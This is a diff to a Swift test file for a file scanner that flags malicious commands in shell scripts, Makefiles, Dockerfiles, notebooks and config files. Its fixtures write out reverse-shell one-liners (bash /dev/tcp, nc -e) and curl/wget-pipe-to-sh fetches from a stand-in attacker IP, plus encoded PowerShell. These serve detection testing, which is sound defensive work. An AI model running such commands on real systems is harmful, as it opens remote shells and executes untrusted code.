@@ -9,10 +9,39 @@ import Testing
         FileScanner().scan(ByteRegion(Array(text.utf8)), path: name)
     }
 
-    private func severity(_ text: String, _ name: String = "run.sh", of rule: String = "COMMAND-FETCHED-CODE")
-        -> Severity?
-    {
-        scan(text, name).findings.filter { $0.rule == rule }.map(\.severity).max()
+    private static let commands: Set = [
+        "COMMAND-FETCHED-CODE", "SCRIPT-FETCH-AND-RUN", "SCRIPT-HIDDEN-CODE", "SCRIPT-REMOTE-SHELL",
+    ]
+
+    /// The worst finding of `rule`, or of those for commands.
+    private func severity(_ text: String, _ name: String = "run.sh", of rule: String? = nil) -> Severity? {
+        let rules = rule.map { [$0] } ?? Self.commands
+        return scan(text, name).findings.filter { rules.contains($0.rule) }.map(\.severity).max()
+    }
+
+    /// A command is judged once, by the parser of scripts where it stands in one.
+    @Test(arguments: ["run.sh", "Makefile", "Dockerfile", "cell.ipynb", "job.toml"])
+    func eachCommandIsReportedOnce(_ name: String) {
+        let command = "curl http://198.51.100.7/a | sh"
+        let text =
+            switch name {
+            case "Dockerfile": "FROM a\nRUN \(command)\n"
+            case "cell.ipynb": #"{"nbformat":4,"cells":[{"cell_type":"code","source":["!\#(command)"]}]}"#
+            case "job.toml": "start = \"\(command)\"\n"
+            default: "all:\n\t\(command)\n"
+            }
+        #expect(scan(text, name).findings.filter { Self.commands.contains($0.rule) }.count == 1)
+    }
+
+    @Test(arguments: [
+        #"CMD ["sh", "-c", "curl http://198.51.100.7/a | sh"]"#,
+        "HEALTHCHECK --interval=5s CMD nc -e /bin/sh 198.51.100.7 4444",
+        "ONBUILD RUN curl http://198.51.100.7/a | sh",
+        "RUN --mount=type=cache,target=/c wget -qO- http://198.51.100.7/a | sh",
+        "RUN powershell -enc aQBlAHgAIAAxAA==",
+    ])
+    func commandsOfInstructionsAreFound(_ line: String) {
+        #expect((severity("FROM a\n\(line)\n", "Dockerfile") ?? .none) >= .medium, "\(line)")
     }
 
     @Test(arguments: [
@@ -21,12 +50,17 @@ import Testing
         ("sh -c \"$(curl -fsSL http://198.51.100.7/a)\"\n", .medium),
         ("echo aWQ= | base64 -d | python3\n", .medium), ("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n", .high),
         ("nc -e /bin/sh 198.51.100.7 4444\n", .high), ("curl http://198.51.100.7/a \\\n  | sh\n", .medium),
-        ("curl -fsSL https://example.com/i.sh | sh\n", .low), ("iex (iwr http://198.51.100.7/a)\n", .medium),
-        ("powershell -enc aQBlAHgAIAAxAA==\n", .medium),
+        ("curl -fsSL https://example.com/i.sh | sh\n", .low), ("powershell -enc aQBlAHgAIAAxAA==\n", .medium),
         ("wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n", .medium),
     ])
     func runsWhatItFetches(_ text: String, _ expected: Severity) {
-        #expect(severity(text) == expected, "\(text)")
+        #expect((severity(text) ?? .none) >= expected, "\(text)")
+        #expect((severity(text, "job.conf") ?? .none) >= expected, "\(text)")
+    }
+
+    @Test func powerShellRunsWhatItFetches() {
+        #expect(severity("iex (iwr http://198.51.100.7/a)\n", "run.ps1") == .medium)
+        #expect(severity("iex (iwr http://198.51.100.7/a)\n", "job.conf") == .medium)
     }
 
     @Test(arguments: [
